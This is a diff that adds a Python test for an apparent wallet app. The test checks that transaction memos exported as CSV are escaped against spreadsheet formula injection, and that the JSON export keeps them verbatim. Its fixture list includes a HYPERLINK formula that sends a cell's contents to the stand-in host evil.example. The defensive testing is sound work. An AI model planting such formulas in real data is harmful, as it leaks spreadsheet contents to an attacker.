@@ -139,3 +139,20 @@ def test_the_developer_page_form_leads_to_the_download(client, user):
     assert response.status_code == 302
     download = client.get(response["Location"])
     assert json.loads(body(download))[0]["amount_uath"] == ath(2)
+
+
+def test_a_memo_someone_else_wrote_cannot_become_a_spreadsheet_formula(api, user, other_user):
+    # Anyone can send me 1 uATH with a memo of their choosing; opened in a
+    # spreadsheet, a cell starting with = + - @ would run as a formula.
+    from apps.accounts.services import send
+
+    fund(other_user.wallet, ath(1))
+    memos = ['=HYPERLINK("https://evil.example/?"&A1,"refund")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "plain"]
+    for memo in memos:
+        send(other_user, user.wallet.address, 1, memo)
+    statement = rows(api.get(f"/api/developer/exports/wallet/?from={TODAY}&to={TODAY}&format=csv"))
+    assert [e["memo"] for e in statement] == ["'" + m for m in memos[:-1]] + ["plain"]
+    # Numbers stay numbers, and JSON keeps the memo as it was written.
+    assert all(e["amount_uath"] == "1" for e in statement)
+    as_json = json.loads(body(api.get(f"/api/developer/exports/wallet/?from={TODAY}&to={TODAY}&format=json")))
+    assert [e["memo"] for e in as_json] == memos
